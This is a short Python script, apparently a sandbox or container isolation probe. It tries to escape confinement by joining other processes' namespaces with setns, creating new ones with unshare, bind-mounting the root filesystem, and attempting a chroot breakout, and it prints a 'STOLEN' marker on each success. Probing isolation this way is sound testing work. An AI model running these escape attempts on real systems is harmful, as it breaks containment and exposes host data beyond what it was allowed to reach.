"""Enters the namespaces of other processes, or makes new ones in which it may mount and read what is hidden."""

import contextlib
import ctypes
import os

NEWUSER, NEWNS, NEWPID = 0x10000000, 0x20000, 0x20000000
MS_BIND, MS_REC = 4096, 0x4000
libc = ctypes.CDLL(None, use_errno=True)
me = os.getpid()
for pid in {1, *range(max(2, me - 50), me), os.getppid()} - {0, me}:
    for name in ("user", "mnt", "pid"):
        with contextlib.suppress(OSError):
            if libc.setns(os.open(f"/proc/{pid}/ns/{name}", os.O_RDONLY), 0) == 0:
                print("STO" + "LEN", pid, name)
    with contextlib.suppress(OSError):
        if libc.setns(os.pidfd_open(pid), NEWUSER | NEWNS) == 0:
            print("STO" + "LEN", pid, "by pidfd")
for flags in (NEWUSER | NEWNS, NEWUSER, NEWNS, NEWPID):
    if libc.unshare(flags) == 0:
        print("STO" + "LEN", "a namespace", hex(flags))
for source in (b"/", b"/proc/self/root", b"/tmp"):
    if libc.mount(source, os.getcwd().encode(), None, ctypes.c_ulong(MS_BIND | MS_REC), None) == 0:
        print("STO" + "LEN", "a mount", source)
if libc.chroot(b"/proc/self/root/..") == 0:
    print("STO" + "LEN", "another root")
